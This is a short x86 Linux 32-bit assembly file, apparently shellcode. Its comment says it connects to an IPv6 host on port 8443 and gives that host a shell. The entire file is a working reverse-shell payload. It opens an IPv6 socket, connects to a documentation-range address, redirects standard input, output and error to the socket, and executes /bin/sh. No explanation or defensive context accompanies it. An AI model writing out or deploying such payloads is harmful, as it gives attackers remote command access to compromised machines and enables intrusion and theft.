; Linux, 32 bit: connects to [2001:db8::5]:8443 and gives it a shell.
bits 32
        xor ebx, ebx
        mul ebx
        push byte 6
        push byte 1
        push byte 10            ; AF_INET6
        mov ecx, esp
        inc ebx
        mov al, 102
        int 80h
        mov esi, eax
        xor edx, edx
        push edx                ; scope
        push dword 0x05000000
        push edx
        push edx
        push dword 0xb80d0120   ; 2001:db8::5
        push edx                ; flow
        push word 0xfb20        ; 8443
        push word 10
        mov ecx, esp
        push byte 28
        push ecx
        push esi
        mov ecx, esp
        push byte 3
        pop ebx
        push byte 102
        pop eax
        int 80h
        mov ebx, esi
        push byte 2
        pop ecx
dup:    push byte 63
        pop eax
        int 80h
        dec ecx
        jns dup
        push edx
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push edx
        push ebx
        mov ecx, esp
        push byte 11
        pop eax
        int 80h
